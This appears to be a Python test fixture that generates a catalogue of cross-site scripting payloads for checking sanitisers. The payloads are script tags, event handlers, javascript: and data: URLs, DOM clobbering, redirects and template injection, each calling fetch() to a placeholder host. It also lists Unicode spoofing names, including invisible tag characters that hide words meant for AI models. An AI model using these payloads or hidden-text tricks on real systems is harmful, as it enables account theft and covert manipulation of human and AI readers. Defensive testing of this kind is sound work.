"""What an attacker writes where a page shows somebody else's words (OWASP, XSS filter evasion; html5sec.org)."""

import json

# Tells of itself by every way out: a dialog, a request, the page's own title.
_TELL = "alert(1);fetch('{lure}/ran');document.title='ran'"


def payloads(lure: str) -> dict[str, str]:
    """Markup by kind. `lure` is an address that nothing may ask."""
    run = _TELL.format(lure=lure)
    quoted = run.replace("'", "&#39;")
    data = f"data:text/html,<script>{run}</script>"
    return {
        "script": f"<script>{run}</script>",
        "script from elsewhere": f"<script src='{lure}/x.js'></script>",
        "out of an element": f"</script></style></textarea></title></pre>--><script>{run}</script>",
        "event handler": f'<img src=x onerror="{run}"><details open ontoggle="{run}">x</details>',
        "handler by focus": f'<input autofocus onfocus="{run}"><p tabindex=1 onfocus="{run}">x</p>',
        "svg": f'<svg onload="{run}"><script>{run}</script><animate onbegin="{run}" attributeName=x dur=1s />'
        f'<use href="{lure}/x.svg#x" /><image href="{lure}/x.png" />'
        f"<foreignObject><script>{run}</script></foreignObject></svg>",
        "mathml": f'<math href="javascript:{quoted}">click<mtext><table><mglyph><style><!--</style>'
        f'<img title="--&gt;&lt;img src=1 onerror={quoted}&gt;"></mglyph></table></mtext></math>',
        "css": f"<style>@import url({lure}/x.css); body {{ display: none !important; background: url({lure}/y) }}"
        "</style>"
        f'<p style="position:fixed;inset:0;z-index:99999;background:url({lure}/z)">over everything</p>',
        "data address": f'<iframe src="{data}"></iframe><object data="{data}"></object><embed src="{data}">',
        "javascript address": f'<a href="javascript:{quoted}" id=go>go</a><iframe src="javascript:{quoted}"></iframe>'
        f'<form action="javascript:{quoted}"><button>go</button></form>',
        "srcdoc": f'<iframe srcdoc="&lt;script&gt;{quoted}&lt;/script&gt;"></iframe>',
        "clobbering": "<form id=document name=location><input name=cookie><input name=querySelector></form>"
        '<a id=bailiwick><a id=bailiwick name=config href="clobbered:x"><img name=getElementById>',
        "base and meta": f'<base href="{lure}/"><meta http-equiv=refresh content="0;url={lure}/left">'
        f'<link rel=stylesheet href="{lure}/x.css"><link rel=prefetch href="{lure}/p">',
        "form out": f'<form action="{lure}/form" id=f><input name=a>'
        f'<button form=f formaction="{lure}/b">go</button></form>',
        "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    }


def short(lure: str) -> str:
    """A payload that fits where a name does."""
    return f"<img src=x onerror=alert(1)><svg onload=fetch('{lure}')>"


def display(markup: str, media_type: str = "text/html") -> str:
    """Python code that shows the markup as a rich output."""
    return f"from IPython.display import display\ndisplay({json.dumps({media_type: markup})}, raw=True)"


def hidden() -> dict[str, tuple[str, str]]:
    """Names that are not what they look like, by kind: the name, and what its reader has to see of it."""
    return {
        "turned round": ("annual\u202etropêr", "annual‹U+202E›"),
        "turned by isolation": ("\u2067one\u2069two", "‹U+2067›one‹U+2069›two"),
        "a space that is none": ("fra\u200bud", "fra‹U+200B›ud"),
        "a joiner that joins nothing": ("fra\u200dud", "fra‹U+200D›ud"),
        "a mark of byte order": ("\ufefffraud", "‹U+FEFF›fraud"),
        "words for a model": ("fraud" + "".join(chr(0xE0000 + ord(one)) for one in "ok"), "fraud‹U+E006F›‹U+E006B›"),
    }
